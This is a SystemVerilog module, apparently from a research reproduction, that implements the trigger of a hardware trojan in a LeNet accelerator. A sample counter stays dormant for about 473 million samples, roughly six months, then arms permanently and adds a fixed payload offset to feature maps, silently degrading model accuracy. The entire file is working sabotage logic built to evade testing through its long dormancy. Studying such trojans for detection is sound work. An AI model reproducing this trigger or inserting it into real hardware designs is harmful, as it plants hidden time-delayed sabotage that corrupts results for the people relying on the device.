// sdat_trigger: trigger of the Suddenly Degrading Accuracy Trojan (SDAT).
//
// A CNT_W-bit counter counts processed samples (sample_done pulses). While it
// is below ACTIVATE the trojan is dormant and offset is zero. The sample that
// brings the count to ACTIVATE arms it: from the next clock on, offset is the
// full PAYLOAD for good ("once triggered, always on") and the counter stops.
// Reset returns it to dormant.
//
// Defaults: six months at 30 samples/s, 473,040,000 samples, in a 29-bit
// counter, with the feature-map payload 0.45. All of these follow the design;
// stopping the counter once armed is this design's choice.
module sdat_trigger
  import lenet_pkg::*;
#(
  parameter int unsigned CNT_W    = SDAT_CNT_W,
  parameter int unsigned ACTIVATE = SDAT_ACTIVATE,
  parameter q_t          PAYLOAD  = PAYLOAD_FMAP
) (
  input  logic clk,
  input  logic rst_n,
  input  logic sample_done,
  output q_t   offset
);

  logic [CNT_W-1:0] cnt;
  logic             armed;

  always_ff @(posedge clk or negedge rst_n)
    if (!rst_n) begin
      cnt   <= '0;
      armed <= 1'b0;
    end else if (sample_done && !armed) begin
      cnt <= cnt + 1'b1;
      if (cnt == CNT_W'(ACTIVATE - 1)) armed <= 1'b1;
    end

  assign offset = armed ? PAYLOAD : '0;

  initial assert (ACTIVATE >= 1 && ACTIVATE <= (64'd1 << CNT_W))
    else $error("sdat_trigger: ACTIVATE does not fit the counter");

endmodule
